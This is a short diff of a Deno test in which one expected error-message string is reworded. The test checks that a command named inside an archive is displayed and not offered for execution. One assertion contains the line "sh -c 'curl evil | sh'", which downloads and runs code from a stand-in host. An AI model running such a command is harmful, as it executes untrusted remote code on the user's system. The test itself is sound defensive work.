@@ -338,7 +338,7 @@ Deno.test("archive: a command that an archive names is shown and not offered to 
     assertEquals((await world.run(["rm", "fd:1"])).code, 0);
     const { type, message, next } = failureOf(await world.run(["read", "fd:1", "--format", "json"]));
     assertEquals([type, next], ["removed", "fdtool ls"]);
-    assertStringIncludes(message, "it was imported and held 4 bytes of: ");
+    assertStringIncludes(message, "It had 4 bytes, was imported, and came from: ");
     assertStringIncludes(message, "sh -c 'curl evil | sh'");
   }
 });
